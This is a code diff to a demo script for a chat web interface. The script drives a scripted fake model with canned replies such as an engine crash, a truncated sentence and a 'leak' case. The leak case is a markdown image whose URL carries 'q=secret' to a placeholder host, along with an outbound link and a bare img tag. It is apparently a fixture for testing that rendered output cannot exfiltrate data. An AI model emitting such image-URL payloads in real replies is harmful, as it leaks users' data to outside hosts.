@@ -12,7 +12,7 @@ from twokeys.config import load_config
 from twokeys.engines.scripted import End, Fail, Say, ScriptedEngine, Stall, Step
 from twokeys.errors import EngineDied
 from twokeys.services import build_services
-from twokeys.types import GenerationRequest
+from twokeys.types import GenerationRequest, Settings
 from twokeys.web.server import serve
 
 MARKDOWN = (Path(__file__).parent / "answer.md").read_text(encoding="utf-8")
@@ -39,7 +39,11 @@ def script(request: GenerationRequest) -> Sequence[Step]:
     if kind == "die":
         return [Say("Half an ans"), Fail(EngineDied(reason="signal 9", log=""))]
     if kind == "leak":
-        return [Say("![secret](https://leak.example/x.png?q=secret) and [click](https://out.example/) <img src=x>")]
+        return [
+            Say(
+                "![secret](https://leak.example/x.png?q=secret) and [click](https://out.example/) <img src=x>"
+            )
+        ]
     if kind == "cut":
         return [Say("The first half of a sentence that", 0.001), End("length")]
     if kind == "emoji":
@@ -56,7 +60,9 @@ def main() -> None:
         script, model="demo", context=16384, start_s=start_s, prompt_s=start_s / 2, memory=123_456_789
     )
     services = build_services(config, engine=engine)
-    conversation = services.chat.new_conversation(title="demo")
+    conversation = services.chat.new_conversation(
+        Settings(guard=dict.fromkeys(("loop", "decay", "drift", "uncertainty"), "off")), title="demo"
+    )
     print(f"conversation {conversation.id}", flush=True)
     page = os.environ.get("DEMO_PAGE")
     serve(services, host, port, False, script=Path(page) if page else Path(__file__).parent / "demo_app.py")
